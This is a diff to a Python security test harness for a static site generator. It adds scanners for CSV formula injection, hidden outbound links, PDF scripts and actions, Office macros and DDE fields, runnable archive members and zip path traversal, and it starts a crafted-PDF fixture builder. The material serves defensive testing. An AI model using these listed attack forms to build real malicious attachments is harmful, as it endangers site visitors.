@@ -4,22 +4,35 @@ to gsgen and judges the result with the other.
 Three parts, importable separately:
 
 * VECTORS: payloads in three classes: (a) OWASP XSS filter-evasion forms, (b) URL-parser tricks
-  judged as a WHATWG browser reads them, (c) inline styles that hide, overlay or load.
-* `unsafe_output(folder)`: reads a built site with lxml, ada_url and tinycss2 and lists what a browser
-  would execute, load from elsewhere, or hide. It never imports gsgen: it must not share gsgen's
-  blind spots.
+  judged as a WHATWG browser reads them, (c) inline styles that hide, overlay or load. Issue 28 adds
+  cases of six more, each an entry point of its own: (d) attachments with active content (CRAFTED),
+  (e) formulas in CSV data downloads, (f) control characters in feeds, (g) items dated after now,
+  (h) hidden links in bodies and in a site theme's stylesheets and scripts, (i) control characters in
+  what gsgen prints.
+* `unsafe_output(folder)`: reads a built site with lxml, ada_url, tinycss2, cssselect, csv and zipfile
+  and lists what a browser would execute, load from elsewhere, or hide (a theme's stylesheets
+  applied), what a published file carries (PDF scripts and actions, Office macros, external parts and
+  fields, programs and traps in ZIPs, bytes that are not what the name says), CSV cells a spreadsheet
+  evaluates and XML that does not parse. It never imports gsgen: it must not share gsgen's blind
+  spots. What only the source tells (pages held for a later date, a CSV's rows) the harness passes in
+  an `Expect`.
 * `run_entries()`: builds sites carrying the vectors at each entry point (Markdown bodies, front
-  matter, structured items, config.yaml, a site theme) and gives each case one outcome.
+  matter, structured items, config.yaml, a site theme, and issue 28's) and gives each case one outcome.
 
-`python -m tests.attacks --table` prints the summary; add `--details` for every case that failed, and
-set GSGEN_ATTACKS_LOG=1 to see each build and why a group of cases was split.
+`python -m tests.attacks --table` prints the summary (`--new`: issue 28's entry points alone); add
+`--details` for every case that failed, and set GSGEN_ATTACKS_LOG=1 to see each build and why a group
+of cases was split.
 """
 
 from __future__ import annotations
 
 import argparse
+import contextlib
+import csv
+import functools
 import gzip
 import hashlib
+import io
 import json
 import os
 import posixpath
@@ -28,6 +41,9 @@ import shutil
 import sys
 import tempfile
 import time
+import unicodedata
+import zipfile
+import zlib
 from collections import Counter, defaultdict
 from collections.abc import Callable, Iterable, Iterator
 from concurrent.futures import ProcessPoolExecutor
@@ -42,6 +58,7 @@ import lxml.html
 import tinycss2
 import tinycss2.ast
 from ada_url import URL
+from cssselect import HTMLTranslator, SelectorError
 
 DOMAIN = "www.test.gov.cn"
 EVIL = "evil.example.com"
@@ -354,37 +371,58 @@ class Finding:
         return f"{self.file}:{self.line}: {self.message}"
 
 
-def unsafe_output(folder: str | os.PathLike[str], domain: str = DOMAIN) -> list[str]:
-    """Everything in a built site that a browser would run, fetch from another host, or hide."""
-    return [str(f) for f in scan_folder(Path(folder), domain)]
+@dataclass(frozen=True)
+class Expect:
+    """What the harness knows of the source that the output alone does not tell."""
+
+    held: frozenset[str] = frozenset()  # pages of items dated after the build's now: nothing may show them
+    csv_rows: dict[str, int] = field(default_factory=dict)  # published CSV → rows of its source, header included
+    csv_numbers: dict[str, tuple[str, ...]] = field(default_factory=dict)  # … → numbers that must stay numbers
 
 
-def scan_folder(folder: Path, domain: str = DOMAIN) -> list[Finding]:
+def unsafe_output(folder: str | os.PathLike[str], domain: str = DOMAIN, expect: Expect | None = None) -> list[str]:
+    """Everything in a built site that a browser would run, fetch from another host, or hide, and every
+    published file that carries active content, a formula or a malformed feed."""
+    return [str(f) for f in scan_folder(Path(folder), domain, expect)]
+
+
+def scan_folder(folder: Path, domain: str = DOMAIN, expect: Expect | None = None) -> list[Finding]:
+    expect = expect or Expect()
+    sheets = Stylesheets(folder)
     findings: list[Finding] = []
     for path in sorted(p for p in folder.rglob("*") if p.is_file()):
         rel = path.relative_to(folder).as_posix()
         lower = rel.lower()
+        if rel in expect.held:
+            findings.append(Finding(rel, 1, "an item dated after the build's now is published", rel))
         if lower.endswith(HTML_SUFFIXES):
             if not lower.endswith(".html"):
                 suffix = posixpath.splitext(rel)[1]
                 findings.append(
                     Finding(rel, 0, f"a {suffix} file: gsgen writes only .html pages (raw HTML published?)")
                 )
-            findings += scan_page(path.read_bytes().decode("utf-8", "replace"), rel, domain)
+            findings += scan_page(path.read_bytes().decode("utf-8", "replace"), rel, domain, sheets, expect.held)
         elif lower.endswith(".svg"):
             findings += scan_svg(path.read_bytes(), rel)
         elif lower.endswith(".xml"):
-            findings += scan_feed(path.read_bytes(), rel, domain)
-        elif lower.endswith((".js", ".mjs")) and not lower.startswith("static/"):
-            findings.append(Finding(rel, 0, "a script file outside static/"))
+            data = path.read_bytes()
+            findings += scan_xml(data, rel) + scan_feed(data, rel, domain, expect.held)
+        elif lower.endswith((".js", ".mjs")):
+            if not lower.startswith("static/"):
+                findings.append(Finding(rel, 0, "a script file outside static/"))
+            findings += scan_script(path.read_bytes(), rel)
         elif lower.startswith("search/x/"):
-            findings += scan_search_record(path.read_bytes(), rel)
+            findings += scan_search_record(path.read_bytes(), rel, expect.held)
         elif lower.endswith(SERVER_SUFFIXES):
             findings.append(Finding(rel, 0, "a server-side script file"))
+        elif lower.endswith(".csv"):
+            findings += scan_csv(path.read_bytes(), rel, expect)
+        elif not lower.startswith(("static/", "search/", ".")) and not lower.endswith(".css"):
+            findings += [Finding(rel, 0, problem) for problem in file_problems(path.read_bytes(), rel)]
     return findings
 
 
-def scan_search_record(data: bytes, rel: str) -> list[Finding]:
+def scan_search_record(data: bytes, rel: str, held: frozenset[str] = frozenset()) -> list[Finding]:
     """What a search result shows (gsgen/search/FORMAT.md): its link must be a page of the site; its
     words are shown as text by the client, so only the link can lead anywhere."""
     try:
@@ -396,13 +434,18 @@ def scan_search_record(data: bytes, rel: str) -> list[Finding]:
         return [Finding(rel, 0, "a search result that links off the site", str(url))]
     if re.search(r"[\x00-\x20]", url):
         return [Finding(rel, 0, "a search result link with spaces or control characters", url)]
+    if url.lstrip("/") in held:
+        return [Finding(rel, 0, "a search result for an item dated after now", url.lstrip("/"))]
     return []
 
 
-def scan_page(text: str, rel: str, domain: str = DOMAIN) -> list[Finding]:
+def scan_page(
+    text: str, rel: str, domain: str = DOMAIN, sheets: Stylesheets | None = None, held: frozenset[str] = frozenset()
+) -> list[Finding]:
     """One HTML page, read twice: as lxml builds its tree, and tag by tag as a browser's tokenizer meets
     them, so that tags libxml2 drops or reparents (a second <body>, <frameset>, what follows a
-    </noscript> inside an attribute) are judged too."""
+    </noscript> inside an attribute) are judged too. On the tree, links leaving the government web are
+    also judged as they are seen: with the page's stylesheets applied (`sheets`, the site's files)."""
     text = text.replace("\0", "\ufffd")  # as the HTML tokenizer does; libxml2 would stop at a NUL
     checker = _PageChecker(rel, domain)
     try:
@@ -416,6 +459,10 @@ def scan_page(text: str, rel: str, domain: str = DOMAIN) -> list[Finding]:
             if isinstance(el.tag, str):
                 inner = el.text_content() if el.tag.lower() in ("script", "style") else ""
                 checker.element(el.tag.lower(), dict(el.attrib), inner, el.sourceline or 0)
+        for line, message, value in hidden_links(root, checker.base, domain, sheets):
+            checker.add(line, message, value)
+        for line, path in links_to(root, checker.base, domain, held):
+            checker.add(line, f"a link to an item dated after now ({path})", path)
     tokens = _Tokens(checker)
     tokens.feed(text)
     tokens.close()
@@ -653,9 +700,10 @@ def scan_svg(data: bytes, rel: str) -> list[Finding]:
     return findings
 
 
-def scan_feed(data: bytes, rel: str, domain: str = DOMAIN) -> list[Finding]:
+def scan_feed(data: bytes, rel: str, domain: str = DOMAIN, held: frozenset[str] = frozenset()) -> list[Finding]:
     """A sitemap or RSS feed lists the site's own pages: an address on another host sends crawlers
-    and subscribers elsewhere (a base_url pointing away, for example)."""
+    and subscribers elsewhere (a base_url pointing away, for example); an entry for an item dated
+    after now announces it before its time."""
     parser = lxml.etree.XMLParser(recover=True, resolve_entities=False, no_network=True)
     try:
         root = lxml.etree.fromstring(data, parser)
@@ -672,6 +720,8 @@ def scan_feed(data: bytes, rel: str, domain: str = DOMAIN) -> list[Finding]:
             host = _host(target, f"https://{domain}/")
             if host is not None and host != domain.lower():
                 findings.append(Finding(rel, el.sourceline or 0, f"<{name}> on another host {host}: {target}", target))
+            elif host is not None and (path := _own_path(target, f"https://{domain}/")) in held:
+                findings.append(Finding(rel, el.sourceline or 0, f"<{name}> for an item dated after now", path))
     return findings
 
 
@@ -680,6 +730,457 @@ def _host(value: str, base: str) -> str | None:
         return URL(value, base).hostname.lower()
     except ValueError:
         return None
+
+
+def _own_path(value: str, base: str) -> str | None:
+    """The path of a URL on the site, relative to its root ("gzdt/a.html")."""
+    try:
+        url = URL(value, base)
+    except ValueError:
+        return None
+    return url.pathname.lstrip("/")
+
+
+# ---------------------------------------------------------------- XML, CSV, scripts, the terminal
+
+
+def scan_xml(data: bytes, rel: str) -> list[Finding]:
+    """Every XML output parsed as XML readers parse it, strictly: one control character makes a feed
+    unreadable to every subscriber."""
+    parser = lxml.etree.XMLParser(resolve_entities=False, no_network=True)
+    try:
+        lxml.etree.fromstring(data, parser)
+    except lxml.etree.XMLSyntaxError as exc:
+        reason = re.sub(r",? line \d+, column \d+.*$", "", " ".join(str(exc.msg or exc).split()))
+        return [Finding(rel, exc.lineno or 0, f"XML that does not parse ({reason}): feed readers reject it")]
+    return []
+
+
+# Cells a spreadsheet keeps as they are: a plain number, or dashes alone (how a table says 无).
+INERT_CELL = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|-+")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def scan_csv(data: bytes, rel: str, expect: Expect | None = None) -> list[Finding]:
+    """A data download as a spreadsheet opens it (OWASP CSV injection): a cell starting with = + - @ tab
+    or CR that is not a plain number (or a dash) is evaluated; a cell that breaks its row shows as a row of
+    its own."""
+    expect = expect or Expect()
+    try:
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig", "replace"), newline="")))
+    except csv.Error as exc:
+        return [Finding(rel, 0, f"a CSV file that Python's csv module cannot read ({exc})")]
+    findings = []
+    for number, row in enumerate(rows, start=1):
+        for cell in row:
+            if cell.startswith(FORMULA_STARTS) and not INERT_CELL.fullmatch(cell):
+                findings.append(
+                    Finding(rel, number, f"a CSV cell a spreadsheet evaluates: {_shorten(repr(cell))}", cell)
+                )
+    most = expect.csv_rows.get(rel)
+    if most is not None and len(rows) > most:
+        findings.append(Finding(rel, 0, f"a CSV of {len(rows)} rows from a source of {most}: a cell broke its row"))
+    cells = {cell for row in rows for cell in row}
+    for kept in expect.csv_numbers.get(rel, ()):
+        if kept not in cells:
+            findings.append(Finding(rel, 0, f"the source's number {kept} is no longer a plain number in the CSV", kept))
+    return findings
+
+
+# A script that sends the visitor elsewhere or writes markup into the page as it loads (innerHTML is left
+# out: the default theme builds its leaving prompt with it).
+NAVIGATES = re.compile(
+    r"\blocation\s*(?:\.\s*(?:replace|assign)\s*\(|(?:\.\s*href\s*)?=(?!=))|\bwindow\s*\.\s*open\s*\("
+    r"|\bdocument\s*\.\s*write(?:ln)?\s*\(|\.\s*insertAdjacentHTML\s*\("
+)
+
+
+def scan_script(data: bytes, rel: str) -> list[Finding]:
+    text = data.decode("utf-8", "replace")
+    return [
+        Finding(rel, text.count("\n", 0, m.start()) + 1, f"a script that sends visitors away or writes markup: {m[0]}")
+        for m in NAVIGATES.finditer(text)
+    ]
+
+
+# What a terminal or a CI log interprets: C0 controls but tab and newline, DEL and C1 (U+009B is CSI).
+TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def terminal_problems(printed: str) -> list[str]:
+    """The lines of gsgen's printed output that hold raw control characters (ESC, CR, BEL, …)."""
+    return [
+        f"raw {', '.join(sorted({f'U+{ord(c):04X}' for c in TERMINAL_CONTROLS.findall(line)}))} in: {line!r}"
+        for line in printed.split("\n")
+        if TERMINAL_CONTROLS.search(line)
+    ]
+
+
+# ---------------------------------------------------------------- hidden links
+
+SHRINKING = {"small", "sub", "sup"}
+TINY_NESTING = 6  # each makes text smaller (CSS `smaller`, about 1/1.2): 16 px becomes 5.4 px after six
+HIDING_CONTAINERS = {"template", "noscript", "rp"}  # never shown (rp) or not with scripting on
+INVISIBLE_CHARACTERS = {"Cc", "Cf", "Zs", "Zl", "Zp"}
+
+
+class Stylesheets:
+    """The site's own stylesheets, each read once, as hiding rules: (selector, what hides)."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        self._rules: dict[str, tuple[tuple[str, str], ...]] = {}
+
+    def rules(self, rel: str) -> tuple[tuple[str, str], ...]:
+        if rel not in self._rules:
+            path = self.folder / rel
+            text = path.read_text("utf-8", "replace") if ".." not in rel and path.is_file() else ""
+            self._rules[rel] = hiding_rules(text)
+        return self._rules[rel]
+
+
+@functools.lru_cache(maxsize=256)
+def hiding_rules(css: str) -> tuple[tuple[str, str], ...]:
+    """The selectors of a stylesheet whose declarations hide what they match (outside print media);
+    kept per text: every page of a build links the same stylesheet and has the same <style>."""
+    found: list[tuple[str, str]] = []
+    for rule in tinycss2.parse_stylesheet(css, skip_comments=True, skip_whitespace=True):
+        if isinstance(rule, tinycss2.ast.AtRule) and rule.lower_at_keyword == "media" and rule.content:
+            if "print" not in tinycss2.serialize(rule.prelude).lower():
+                found += hiding_rules(tinycss2.serialize(rule.content))
+        elif isinstance(rule, tinycss2.ast.QualifiedRule):
+            why = sheet_hides(tinycss2.serialize(rule.content))
+            if why:
+                found += [(s.strip(), why) for s in tinycss2.serialize(rule.prelude).split(",") if s.strip()]
+    return tuple(found)
+
+
+def sheet_hides(declarations: str) -> str:
+    """Why a rule's declarations hide an element ('' if they do not): what hides in an inline style,
+    or an offset that moves it a thousand pixels off screen."""
+    hides = [p for p in style_problems(declarations) if p.startswith(("hides", "moves off screen"))]
+    nodes = tinycss2.parse_blocks_contents(declarations, skip_comments=True, skip_whitespace=True)
+    for d in nodes:
+        offset = isinstance(d, tinycss2.ast.Declaration) and (
+            d.lower_name in OFFSETS or d.lower_name.startswith("inset")
+        )
+        if offset and d.lower_name != "z-index" and any(abs(n) >= 1000 for n in _numbers(d.value)):
+            hides.append(f"moves off screen ({d.lower_name})")
+    return "; ".join(hides)
+
+
+_XPATHS: dict[str, lxml.etree.XPath | None] = {}
+
+
+def _selector(selector: str) -> lxml.etree.XPath | None:
+    """A CSS selector as cssselect translates it; None for what it cannot match on a static page
+    (:hover, ::before, …)."""
+    if selector not in _XPATHS:
+        try:
+            _XPATHS[selector] = lxml.etree.XPath(HTMLTranslator().css_to_xpath(selector))
+        except (SelectorError, lxml.etree.XPathError):
+            _XPATHS[selector] = None
+    return _XPATHS[selector]
+
+
+def _page_rules(root: Any, base: str, domain: str, sheets: Stylesheets | None) -> list[tuple[str, str]]:
+    rules: list[tuple[str, str]] = []
+    for link in root.iter("link"):
+        href = link.get("href") or ""
+        stylesheet = "stylesheet" in (link.get("rel") or "").lower().split()
+        if sheets is not None and stylesheet and href and _host(href, base) == domain.lower():
+            rules += sheets.rules(_own_path(href, base) or "")
+    for style in root.iter("style"):
+        rules += hiding_rules(style.text_content())
+    return rules
+
+
+def _outside_host(href: str, base: str, domain: str) -> str | None:
+    """The host of a link that leaves the government web."""
+    try:
+        url = URL(href, base)
+    except ValueError:
+        return None
+    host = url.hostname.lower()
+    if url.protocol not in ("http:", "https:") or host == domain.lower() or is_government_host(host):
+        return None
+    return host
+
+
+def hidden_links(
+    root: Any, base: str, domain: str, sheets: Stylesheets | None = None
+) -> Iterator[tuple[int, str, str]]:
+    """(line, message, href) of each link leaving the government web that a reader does not see (暗链)."""
+    hidden_by: dict[Any, str] = {}
+    for selector, why in _page_rules(root, base, domain, sheets):
+        xpath = _selector(selector)
+        for el in xpath(root) if xpath is not None else ():
+            hidden_by.setdefault(el, f"{_shorten(selector, 60)} {{{why}}}")
+    for a in root.iter("a", "area"):
+        host = _outside_host(a.get("href") or "", base, domain)
+        why = _why_unseen(a, hidden_by) if host else ""
+        if why:
+            yield a.sourceline or 0, f"a link to {host} {why}", a.get("href", "")
+
+
+def _why_unseen(a: Any, hidden_by: dict[Any, str]) -> str:
+    if not visible_text(a) and not _visible_picture(a):
+        return "with no visible text or picture"
+    shrink = 0
+    for el in (a, *a.iterancestors()):
+        tag = el.tag.lower() if isinstance(el.tag, str) else ""
+        if el in hidden_by:
+            return f"hidden by the stylesheet rule {hidden_by[el]}"
+        if tag in HIDING_CONTAINERS:
+            return f"inside <{tag}>"
+        if "hidden" in el.attrib:
+            return f"inside <{tag} hidden>"
+        if tag == "details" and el is not a and "open" not in el.attrib:
+            summary = next((c for c in el if isinstance(c.tag, str) and c.tag.lower() == "summary"), None)
+            in_summary = summary is not None and (summary is a or summary in a.iterancestors())
+            if summary is not None and not in_summary and not visible_text(summary):
+                return "inside <details> with an empty summary"
+        shrink += tag in SHRINKING
+    if shrink >= TINY_NESTING:
+        return f"in text too small to read ({shrink} nested <small>/<sub>/<sup>)"
+    return ""
+
+
+def visible_text(el: Any) -> str:
+    """The characters of an element's text that show: no spaces, controls, zero-width or format characters."""
+    return "".join(c for c in el.text_content() if unicodedata.category(c) not in INVISIBLE_CHARACTERS)
+
+
+def _visible_picture(a: Any) -> bool:
+    """A picture with alt text (what a screen reader reads) in a box larger than 1×1."""
+    for img in a.iter("img"):
+        sizes = [_pixels(img.get(name)) for name in ("width", "height")]
+        tiny = any(s is not None and s <= 1 for s in sizes)
+        if (img.get("alt") or "").strip() and not tiny and not style_problems(img.get("style") or ""):
+            return True
+    return False
+
+
+def _pixels(value: str | None) -> float | None:
+    m = re.match(r"\s*(\d+(\.\d*)?)", value or "")
+    return float(m[1]) if m else None
+
+
+def links_to(root: Any, base: str, domain: str, held: frozenset[str]) -> Iterator[tuple[int, str]]:
+    """(line, path) of each link to one of the `held` pages."""
+    if not held:
+        return
+    for el in root.iter("a", "link", "area"):
+        href = el.get("href")
+        if href and _host(href, base) == domain.lower() and (path := _own_path(href, base)) in held:
+            yield el.sourceline or 0, path
+
+
+# ---------------------------------------------------------------- published files: active content, magic bytes
+
+OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+LNK_MAGIC = b"L\x00\x00\x00\x01\x14\x02\x00"
+PROGRAM_MAGIC = (b"MZ", b"\x7fELF", b"#!", LNK_MAGIC, b"\xca\xfe\xba\xbe", b"\xcf\xfa\xed\xfe")
+
+
+def _is_zip(d: bytes) -> bool:
+    return d[:4] in (b"PK\x03\x04", b"PK\x05\x06")
+
+
+# What each published extension's bytes must start with (or be).
+MAGIC: dict[str, Callable[[bytes], bool]] = {
+    "jpg": lambda d: d.startswith(b"\xff\xd8\xff"),
+    "jpeg": lambda d: d.startswith(b"\xff\xd8\xff"),
+    "png": lambda d: d.startswith(b"\x89PNG\r\n\x1a\n"),
+    "gif": lambda d: d[:6] in (b"GIF87a", b"GIF89a"),
+    "webp": lambda d: d[:4] == b"RIFF" and d[8:12] == b"WEBP",
+    "bmp": lambda d: d[:2] == b"BM",
+    "ico": lambda d: d[:4] == b"\x00\x00\x01\x00",
+    "avif": lambda d: d[4:8] == b"ftyp",
+    "pdf": lambda d: b"%PDF-" in d[:1024],
+    "ofd": _is_zip,
+    "zip": _is_zip,
+    "docx": _is_zip,
+    "xlsx": _is_zip,
+    "pptx": _is_zip,
+    "odt": _is_zip,
+    "ods": _is_zip,
+    "odp": _is_zip,
+    "doc": lambda d: d.startswith(OLE_MAGIC),
+    "xls": lambda d: d.startswith(OLE_MAGIC),
+    "ppt": lambda d: d.startswith(OLE_MAGIC),
+    "wps": lambda d: d.startswith(OLE_MAGIC) or _is_zip(d),
+    "et": lambda d: d.startswith(OLE_MAGIC) or _is_zip(d),
+    "dps": lambda d: d.startswith(OLE_MAGIC) or _is_zip(d),
+    "rtf": lambda d: d.startswith(b"{\\rtf"),
+    "rar": lambda d: d.startswith(b"Rar!\x1a\x07"),
+    "7z": lambda d: d.startswith(b"7z\xbc\xaf\x27\x1c"),
+    "mp4": lambda d: d[4:8] == b"ftyp",
+    "m4a": lambda d: d[4:8] == b"ftyp",
+    "webm": lambda d: d.startswith(b"\x1a\x45\xdf\xa3"),
+    "ogg": lambda d: d.startswith(b"OggS"),
+    "wav": lambda d: d[:4] == b"RIFF" and d[8:12] == b"WAVE",
+    "mp3": lambda d: d.startswith(b"ID3") or d[:2] in (b"\xff\xfb", b"\xff\xf3", b"\xff\xf2"),
+    "json": lambda d: _parses_as_json(d),
+}
+MARKUP = re.compile(rb"<\s*(!doctype\s+html|html|head|body|script|svg|iframe|object|embed|meta\s|a\s|img\s)", re.I)
+# Members of an archive that run when opened (by name): programs, scripts, shortcuts, macro documents, pages.
+RUNNABLE = {
+    *("exe", "com", "bat", "cmd", "pif", "scr", "msi", "msp", "dll", "cpl", "sys", "drv", "ocx"),
+    *("js", "jse", "vbs", "vbe", "wsf", "wsh", "ps1", "psm1", "hta", "lnk", "url", "jar", "reg", "chm", "sh"),
+    *("apk", "html", "htm", "xhtml", "mht", "svg", "docm", "dotm", "xlsm", "xltm", "xlam", "pptm", "potm", "ppam"),
+}
+
+
+def _parses_as_json(data: bytes) -> bool:
+    try:
+        json.loads(data.decode("utf-8-sig"))
+    except ValueError:
+        return False
+    return True
+
+
+def _extension(name: str) -> str:
+    return posixpath.splitext(name.replace("\\", "/"))[1].lower().lstrip(".")
+
+
+def file_problems(data: bytes, name: str, depth: int = 0) -> list[str]:
+    """What in a published file (or an archive member) runs, calls out, or is not what its name says."""
+    ext = _extension(name)
+    problems: list[str] = []
+    head = data[:1024].lstrip(b"\xef\xbb\xbf \t\r\n")
+    if ext not in ("svg", "xml", "html", "htm") and head[:1] == b"<" and MARKUP.search(head):
+        problems.append(f"HTML/SVG markup in a .{ext} file: a browser that sniffs renders it")
+    if ext in MAGIC and not MAGIC[ext](data):
+        problems.append(f"a .{ext} file whose bytes are not one (they start {data[:6]!r})")
+    if data.startswith(PROGRAM_MAGIC) and ext not in RUNNABLE:
+        problems.append(f"a program (by its bytes) named .{ext}")
+    if b"%PDF-" in data[:1024]:
+        problems += pdf_problems(data)
+    elif _is_zip(data):
+        problems += zip_problems(data, depth)
+    return list(dict.fromkeys(problems))
+
+
+PDF_ACTIVE = re.compile(
+    rb"/(JavaScript|JS|Launch|EmbeddedFiles?|XFA|RichMedia|AA|ImportData|SubmitForm|GoToE)(?![^\s()<>\[\]{}/%])"
+)
+
+
+def _pdf_text(data: bytes) -> bytes:
+    """A PDF's bytes with every Flate stream inflated and #xx escapes in names decoded (/J#61vaScript)."""
+    parts = [data]
+    for m in re.finditer(rb"(?<!end)stream\r?\n", data):
+        end = data.find(b"endstream", m.end())
+        if end < 0:
+            break
+        with contextlib.suppress(zlib.error):
+            parts.append(zlib.decompressobj().decompress(data[m.end() : end], 20_000_000))
+    return re.sub(rb"#([0-9A-Fa-f]{2})", lambda m: bytes([int(m[1], 16)]), b"\n".join(parts))
+
+
+def pdf_problems(data: bytes) -> list[str]:
+    """JavaScript, launch, embedded files, forms that run (XFA), Flash, automatic actions (/AA), and an
+    /OpenAction other than going to a page of the document."""
+    text = _pdf_text(data)
+    problems = [f"PDF with /{m[1].decode()}" for m in PDF_ACTIVE.finditer(text)]
+    for m in re.finditer(rb"/OpenAction\s*(<<|\[|(\d+)\s+(\d+)\s+R)", text):
+        if m[1] == b"[":
+            continue  # a destination: the page it opens at
+        if m[1] == b"<<":
+            action = text[m.start(1) : m.start(1) + 600]
+        else:
+            target = re.search(rb"(?<!\d)" + m[2] + rb"\s+" + m[3] + rb"\s+obj(.*?)endobj", text, re.S)
+            action = target[1].strip() if target else b""
+        kind = re.search(rb"/S\s*/(\w+)", action)
+        if kind and kind[1] != b"GoTo" and not action.startswith(b"["):
+            uri = re.search(rb"/URI\s*\(([^)]*)\)", action)
+            problems.append(
+                f"PDF opening with a /{kind[1].decode()} action" + (f" to {uri[1].decode('latin-1')}" if uri else "")
+            )
+    return list(dict.fromkeys(problems))
+
+
+def member_name_problems(name: str) -> list[str]:
+    problems = []
+    if any(unicodedata.category(c) in ("Cc", "Cf") for c in name):
+        problems.append(f"a member name with control or bidi characters: {name!r}")
+    parts = name.replace("\\", "/").split("/")
+    if ".." in parts or name.startswith(("/", "\\")) or re.match(r"[A-Za-z]:", name):
+        problems.append(f"a member path leaving the folder it is unpacked into: {name!r}")
+    return problems
+
+
+def zip_problems(data: bytes, depth: int = 0) -> list[str]:
+    """An archive's members by name, path and bytes, nested archives opened in turn; OOXML parts too."""
+    try:
+        archive = zipfile.ZipFile(io.BytesIO(data))
+        infos = archive.infolist()
+    except (zipfile.BadZipFile, OSError, ValueError):
+        return ["a ZIP archive that cannot be read"]
+    problems: list[str] = []
+    if "[Content_Types].xml" in archive.namelist():
+        problems += ooxml_problems(archive)
+    for info in infos:
+        problems += member_name_problems(info.filename)
+        ext = _extension(info.filename)
+        if info.is_dir():
+            continue
+        if ext in RUNNABLE:
+            problems.append(f"a .{ext} file in the archive: {info.filename!r}")
+        if info.file_size > 50_000_000 or depth >= 3:
+            continue
+        try:
+            body = archive.read(info)
+        except (RuntimeError, zipfile.BadZipFile, OSError, ValueError, NotImplementedError):
+            problems.append(f"a member that cannot be read (encrypted?): {info.filename!r}")
+            continue
+        if "[Content_Types].xml" not in archive.namelist() or ext in ("zip", "exe", "pdf"):
+            problems += [f"{info.filename!r}: {p}" for p in file_problems(body, info.filename, depth + 1)]
+    return list(dict.fromkeys(problems))
+
+
+XML_READER = lxml.etree.XMLParser(recover=True, resolve_entities=False, no_network=True, huge_tree=False)
+FIELD_CODES = re.compile(r"\b(DDEAUTO|DDE|INCLUDEPICTURE|INCLUDETEXT|IMPORT)\b\s*(\S*)", re.I)
+CALLING_FORMULA = re.compile(r"\b(WEBSERVICE|FILTERXML|HYPERLINK|CALL|REGISTER(?:\.ID)?|EXEC)\s*\(|\|", re.I)
+
+
+def ooxml_problems(archive: zipfile.ZipFile) -> list[str]:
+    """A Word, Excel or PowerPoint file: macros, embedded or external objects, external relationships
+    (remote templates, OLE links; hyperlinks excepted), DDE and remote INCLUDE fields, formulas that
+    call out (WEBSERVICE, DDE `cmd|…`, HYPERLINK)."""
+    problems: list[str] = []
+    for name in archive.namelist():
+        low = name.lower()
+        if posixpath.basename(low).startswith("vbaproject") or "/activex/" in low:
+            problems.append(f"a macro or ActiveX part: {name}")
+        elif "/embeddings/" in low or ("/externallinks/" in low and low.endswith(".xml")):
+            problems.append(f"an embedded object or external workbook link: {name}")
+        if not low.endswith((".xml", ".rels")):
+            continue
+        root = lxml.etree.fromstring(archive.read(name)[:20_000_000] or b"<x/>", XML_READER)
+        if root is None:
+            continue
+        instructions = []
+        for el in root.iter():
+            if not isinstance(el.tag, str):
+                continue
+            local = lxml.etree.QName(el).localname
+            if local == "Relationship" and el.get("TargetMode", "").lower() == "external":
+                kind = el.get("Type", "").rsplit("/", 1)[-1]
+                if kind != "hyperlink":
+                    problems.append(f"an external {kind} relationship to {el.get('Target', '')}")
+            elif local == "instrText":
+                instructions.append(el.text or "")
+            elif local == "fldSimple":
+                instructions.append(" " + next((v for k, v in el.attrib.items() if k.endswith("instr")), "") + " ")
+            elif local == "f" and el.text and CALLING_FORMULA.search(el.text):
+                problems.append(f"a formula that calls out: ={_shorten(el.text, 80)}")
+        for m in FIELD_CODES.finditer("".join(instructions)):
+            code = m[1].upper()
+            if code.startswith("DDE") or "://" in m[2] or m[2].strip('"').startswith("\\\\"):
+                problems.append(f"a {code} field: {_shorten(m[0], 80)}")
+    return problems
 
 
 # ---------------------------------------------------------------- inline styles
@@ -835,6 +1336,14 @@ class Case:
     page: str | None = None  # the output page that shows this case and no other
     value: str | None = None  # the text that ties an output finding to this case (config)
     text: str = ""  # what to write: an item file, or a line of the theme's template
+    files: tuple[tuple[str, str | bytes], ...] = ()  # files of its own it writes into the site
+    outputs: tuple[str, ...] = ()  # published files it owns (a path, or a folder ending in /)
+    # other places an error may name instead of `source`: (file, line), or (file, None) for the whole file
+    # (an attachment, a theme's script) where no line is expected
+    also: tuple[tuple[str, int | None], ...] = ()
+    held: str = ""  # the page of an item dated after now: nothing may show it
+    csv_rows: int = 0  # rows of the source of its published CSV
+    csv_numbers: tuple[str, ...] = ()  # numbers of that source that must stay numbers
 
     @property
     def id(self) -> str:
@@ -862,8 +1371,9 @@ PASSING = ("refused", "clean")
 
 
 def yaml_string(text: str) -> str:
-    """A double-quoted YAML scalar on one line (a JSON string is one)."""
-    return json.dumps(text, ensure_ascii=False)
+    """A double-quoted YAML scalar on one line (a JSON string is one), characters YAML forbids in a
+    file (U+FFFE, U+FFFF, C1) written as escapes, which YAML reads as those characters."""
+    return re.sub(r"[\x7f-\x9f\ufffe\uffff]", lambda m: f"\\u{ord(m[0]):04x}", json.dumps(text, ensure_ascii=False))
 
 
 def md_destination(url: str) -> str:
@@ -1047,13 +1557,712 @@ def theme_cases() -> list[Case]:
     return [replace(c, source=THEME_404, text=c.text.replace("\n", "&#10;").replace("\r", "&#13;")) for c in cases]
 
 
+# ---------------------------------------------------------------- crafted attachments (issue 28)
+
+JS = "app.alert(1)"
+
+
+def pdf_file(catalog: str = "", page: str = "", extra: tuple[bytes | str, ...] = ()) -> bytes:
+    """A one-page PDF with `catalog` and `page` added to those dictionaries and objects 5, 6, … after
+    them, its cross-reference table right (readers open it without repairing)."""
+    content = b"BT /F1 12 Tf 72 720 Td (Notice) Tj ET"
+    objects: list[bytes] = [
+        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {page} >>".encode(),
+        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
+        *(o.encode() if isinstance(o, str) else o for o in extra),
+    ]
